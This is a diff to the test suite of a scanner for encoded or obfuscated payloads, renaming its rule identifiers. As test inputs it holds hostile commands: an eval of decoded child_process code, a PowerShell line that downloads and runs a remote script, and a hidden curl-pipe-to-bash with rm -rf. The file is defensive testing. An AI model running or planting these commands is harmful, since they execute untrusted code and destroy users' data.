@@ -9,7 +9,7 @@ const rulesOf = async (path: string, text: string) => [
   ),
 ];
 
-describe("R03: encoded payload", () => {
+describe("obfuscation: encoded payload", () => {
   it.each([
     [
       "base64 into a shell",
@@ -32,19 +32,19 @@ describe("R03: encoded payload", () => {
       `const code = atob("${base64("require('child_process').execSync('id')")}");\neval(code);\n`,
     ],
   ])("blocks %s", async (_, path, text) => {
-    expect(await rulesOf(path, text)).toContain("R03.decoded_and_run conclusive");
+    expect(await rulesOf(path, text)).toContain("obfuscation.decoded-and-run conclusive");
   });
 
   it("blocks a command that PowerShell is given in an encoding", async () => {
     const encoded = Buffer.from("iex (irm http://203.0.113.5/x)", "utf16le").toString("base64");
     expect(await rulesOf("run.ps1", `powershell -NoP -enc ${encoded}\n`)).toContain(
-      "R03.encoded_command conclusive",
+      "obfuscation.encoded-command conclusive",
     );
   });
 
   it("asks about text that turns out to be a program, even where nothing visible runs it", async () => {
     const hidden = base64("curl -s https://unknown.example/x | bash && rm -rf ~/.cache");
-    expect(await rulesOf("data.py", `THEME = "${hidden}"\n`)).toEqual(["R03.hidden_code suspicious"]);
+    expect(await rulesOf("data.py", `THEME = "${hidden}"\n`)).toEqual(["obfuscation.hidden-code suspicious"]);
   });
 
   it("stays quiet where what is decoded is data", async () => {
